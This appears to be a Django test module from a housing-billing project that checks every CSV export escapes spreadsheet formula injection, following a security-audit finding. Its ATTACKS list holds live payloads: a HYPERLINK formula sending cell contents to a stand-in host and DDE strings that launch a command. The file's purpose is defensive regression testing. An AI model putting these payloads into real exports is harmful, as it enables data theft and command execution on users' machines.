"""Finding 5 of the security audit: a bank transfer titled `=HYPERLINK(…)` landed unescaped in
the resident's "my data" wplaty.csv (payments), and awarie.csv, wiadomosci.csv and the debtors CSV
were unescaped too. Every CSV the project writes goes through core.spreadsheets now; this walks
every CSV endpoint with text that a spreadsheet would run, and the source for any other writer."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import get_resolver, reverse

from core.spreadsheets import inert
from privacy import services as privacy_services
from privacy.models import DataExport
from tests.access import _walk
from tests.billing.factories import ChargeFactory, PaymentFactory
from tests.factories import AccountFactory, StaffFactory
from tests.faults.factories import ReportFactory
from tests.messaging.factories import thread_of
from tests.meters.factories import MeterFactory, ReadingFactory, WindowFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Every URL that answers with a CSV (or a ZIP of CSVs), by name; a new one must be added here.
CSV_URLS = {
    "billing:history_csv",
    "privacy:download",
    "admin:billing_debtors_csv",
    "admin:meters_readingwindow_export",
    "admin:billing_settlementrun_csv",
}


def rows_of(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_inert(rows, where):
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert inert(cell) == cell, f"{where}: a spreadsheet would run {cell!r}"
    return cells


def test_the_helper_quotes_formulas_and_leaves_numbers():
    assert [inert(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert inert("-12,50") == "-12,50"
    assert inert("+48 600 123 456") == "'+48 600 123 456"
    assert inert("1234,56") == "1234,56"
    assert inert("Czynsz") == "Czynsz"
    assert inert(7) == 7


def test_no_csv_is_written_any_other_way():
    root = Path(settings.BASE_DIR)
    writers = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "core/spreadsheets.py")):
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            writers.append(relative)
    assert writers == []


def test_every_csv_url_is_covered_here():
    routes = _walk(get_resolver().url_patterns)
    csv_routes = {name for route, name in routes if route.endswith((".csv", "export.csv/"))}
    # The "my data" ZIP holds CSVs too.
    assert csv_routes | {"privacy:download"} == CSV_URLS


def test_the_payment_history_csv(owner_client, account):
    for i, attack in enumerate(ATTACKS):
        ChargeFactory(account=account, amount=Decimal("10.00") + i, title=attack)
        PaymentFactory(account=account, amount=Decimal("10.00") + i, title=attack)
    response = owner_client.get(reverse("billing:history_csv", args=[account.pk]) + "?rok=all")
    assert response.status_code == 200
    cells = assert_inert(rows_of(response.content), "history")
    assert sum(1 for c in cells if c.startswith("'")) >= len(ATTACKS)


def test_my_data_export(owner_client, owner, account):
    for attack in ATTACKS:
        PaymentFactory(account=account, amount=Decimal("5.00"), title=attack, payer=attack)
        ChargeFactory(account=account, title=attack)
        ReportFactory(reporter=owner, account=account, title=attack, description=attack)
        thread_of(owner, subject=attack)
    export = DataExport.objects.create(user=owner)
    assert privacy_services.export_build(export_id=export.pk) == "done"
    response = owner_client.get(reverse("privacy:download", args=[export.pk]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"wplaty.csv", "naliczenia.csv"} <= set(names)
    quoted = 0
    for name in names:
        cells = assert_inert(rows_of(archive.read(name)), name)
        quoted += sum(1 for c in cells if c.startswith("'="))
    assert quoted >= 4  # the formula reached the files, made inert


def test_the_debtors_csv(client):
    client.force_login(StaffFactory(groups=["Księgowość"]))
    for i, attack in enumerate(ATTACKS):
        debtor = AccountFactory(number=f"80{i:02d}", holder_name=attack)
        ChargeFactory(account=debtor, amount=Decimal("300.00"), due_date="2026-01-10")
    response = client.get(reverse("admin:billing_debtors_csv"))
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert_inert(rows, "debtors")
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + a for a in ATTACKS)


def test_the_meter_readings_export(client, account):
    client.force_login(StaffFactory(groups=["BOK"]))
    window = WindowFactory()
    building = account.premises.building
    building.street = ATTACKS[0]
    building.save()
    meter = MeterFactory(premises=account.premises, serial_number="=1+1")
    ReadingFactory(meter=meter, value=Decimal("12.5"), read_on=window.starts_on)
    response = client.get(reverse("admin:meters_readingwindow_export", args=[window.pk]))
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert_inert(rows, "readings")
    assert rows[1][0] == "'" + ATTACKS[0]
    assert rows[1][3] == "'=1+1"


@pytest.mark.usefixtures("eager_tasks")  # the job/render runs in the test
def test_the_water_settlement_preview_csv(client, account, django_capture_on_commit_callbacks):
    """A building's street typed as a formula reaches the preview's premises column inert; a
    credit (a negative difference) stays a number."""
    import datetime

    from billing.ledger.models import Component
    from billing.water.models import SettlementPlan, SettlementRun, WaterTariff
    from tests.billing.factories import water_part_of_the_rent

    building = account.premises.building
    building.street = ATTACKS[0]
    building.save()
    water_part_of_the_rent()  # the flat's water without VAT, as the figures below
    plan = SettlementPlan.objects.create(building=building, first_day=datetime.date(2026, 1, 1))
    plan.advance_components.add(Component.objects.get(code="water_sewage"))
    WaterTariff.objects.create(
        valid_from=datetime.date(2025, 1, 1),
        water_price=Decimal("6.5"),
        sewage_price=Decimal("8.2"),
    )
    meter = MeterFactory(premises=account.premises)
    ReadingFactory(meter=meter, value=Decimal("1"), read_on=datetime.date(2025, 12, 31))
    ReadingFactory(meter=meter, value=Decimal("2"), read_on=datetime.date(2026, 6, 30))
    ChargeFactory(
        account=account,
        component=Component.objects.get(code="water_sewage"),
        amount=Decimal("100.00"),
        period=datetime.date(2026, 1, 1),
    )
    client.force_login(StaffFactory(is_superuser=True))
    with django_capture_on_commit_callbacks(execute=True):  # the preview job runs eagerly
        client.post(
            reverse("admin:billing_settlementrun_add"),
            {"building": building.pk, "day": "2026-01-01"},
        )
    url = reverse("admin:billing_settlementrun_csv", args=[SettlementRun.objects.get().pk])
    rows = rows_of(client.get(url).content)
    assert_inert(rows, "water settlement preview")
    # 1 m³ × 14,70 = 14,70 zł against 100,00 zł of advances: 85,30 overpaid, nothing to pay
    assert rows[1][1].startswith("'=HYPERLINK")
    overpaid, to_pay = rows[0].index("Nadpłata (zł)"), rows[0].index("Do dopłaty (zł)")
    assert (rows[1][overpaid], rows[1][to_pay]) == ("85,30", "0,00")
